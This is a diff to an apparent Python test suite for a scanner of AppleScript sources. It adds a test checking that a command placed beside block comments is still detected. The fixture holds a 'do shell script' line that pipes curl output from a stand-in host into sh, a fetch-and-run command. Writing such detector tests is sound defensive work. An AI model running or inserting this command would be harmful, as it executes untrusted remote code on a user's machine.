@@ -49,6 +49,14 @@ def test_a_keychain_password_read_by_security_and_posted(tmp_path: Path) -> None
     assert Kind.SECRET_READ in {c.kind for c in found}
 
 
+def test_a_command_beside_a_block_comment_is_still_read(tmp_path: Path) -> None:
+    source = (
+        '(* housekeeping,\n   runs nightly *) set u to "https://n.example.invalid/h"\n'
+        'do shell script "curl -s " & u & " | sh" (* refresh the index *)\n'
+    )
+    assert Kind.EXEC_FETCHED in as_kinds(tmp_path, source)
+
+
 def test_a_login_item_made_by_system_events_is_persistence(tmp_path: Path) -> None:
     source = (
         'tell application "System Events"\n'
